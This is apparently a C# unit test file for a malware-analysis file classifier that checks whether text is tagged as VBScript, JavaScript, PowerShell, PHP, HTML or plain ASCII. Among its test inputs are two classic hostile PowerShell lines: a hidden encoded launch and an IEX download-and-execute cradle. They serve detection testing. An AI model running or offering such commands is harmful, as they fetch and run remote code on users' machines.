using System.Text;
using Karton.Services.Classifier.Content;
using Karton.Services.Classifier.Describing.Signatures;
using Karton.Services.Classifier.Recognizing;
using Karton.Services.Classifier.Tests.Samples;

namespace Karton.Services.Classifier.Tests.Recognizing;

public sealed class ScriptRulesTests
{
    [Theory]
    [InlineData(
        "This new function is called when you catch the bus. To bypass a queue, execute the new plan. PowerShell users "
        + "return to this document. A function of the window: see above.")]
    [InlineData("#include <stdio.h>\n/* ===== */\nint main(void) { return this_function(new_value); }\n")]
    [InlineData("program test;\nfunction Add(a, b: Integer): Integer;\nbegin\n  if a = b then\n  end;\nend;\n")]
    [InlineData("[section]\nvar = 1\nset x = 2\n# end if\n")]
    public void Prose_and_other_languages_are_no_scripts_of_Windows(string text) =>
        Assert.Equal("misc:ascii", TagOf(Encoding.ASCII.GetBytes(text)));

    [Theory]
    [InlineData(nameof(Scripts.VisualBasic), "script:win32:vbs")]
    [InlineData(nameof(Scripts.Java), "script:win32:js")]
    [InlineData(nameof(Scripts.PowerShell), "script:win32:ps1")]
    public void A_script_is_known_by_what_stands_behind_a_long_piece_of_data(string script, string tag)
    {
        var text = (string)typeof(Scripts).GetField(script)!.GetValue(null)!;
        var bytes = Encoding.ASCII.GetBytes(new string('A', 100_000) + "\n" + text);

        Assert.Equal(tag, TagOf(bytes));
    }

    [Theory]
    [InlineData("powershell.exe -nop -w hidden -enc SQBFAFgA")]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')")]
    public void A_single_line_for_PowerShell_is_enough(string line) =>
        Assert.Equal("script:win32:ps1", TagOf(Encoding.ASCII.GetBytes(line)));

    [Fact]
    public void A_picture_with_a_script_in_it_is_a_page() =>
        Assert.Equal("misc:html", TagOf("<svg xmlns='x'><script>go()</script></svg>"u8.ToArray()));

    [Fact]
    public void Php_is_known_behind_a_comment_that_hides_it_from_libmagic() =>
        Assert.Equal("script:php", TagOf("\n <?php\n/* C++? */ class A { public: }"u8.ToArray()));

    private static string TagOf(byte[] bytes)
    {
        var content = new SampleContent("sample", bytes, default, bytes.Length);
        return Recognizer.Recognize(SignatureDescriber.Describe(content), content)?.Tag ?? "unrecognized";
    }
}
